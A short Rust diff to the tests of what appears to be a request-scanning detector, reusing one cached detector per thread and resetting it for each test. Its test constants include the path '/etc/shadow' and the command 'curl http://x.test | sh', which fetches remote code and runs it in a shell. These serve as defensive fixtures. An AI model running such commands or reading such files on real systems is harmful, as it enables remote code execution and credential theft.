@@ -21,8 +21,17 @@ use std::{
 const PATH: &str = "/etc/shadow";
 const COMMAND: &str = "curl http://x.test | sh";
 
+thread_local! {
+    static DETECTOR: Arc<Detector> =
+        Detector::new(Limits::default(), &[], Some("own-token-own-token-own-token-own-token-own"));
+}
+
+/// One for each test, which remembers nothing: to make one takes longer than most scans.
 fn detector() -> Arc<Detector> {
-    Detector::new(Limits::default(), &[], Some("own-token-own-token-own-token-own-token-own"))
+    DETECTOR.with(|detector| {
+        detector.forget();
+        Arc::clone(detector)
+    })
 }
 
 fn head(direction: Direction, fields: &[(&str, &str)]) -> Head {
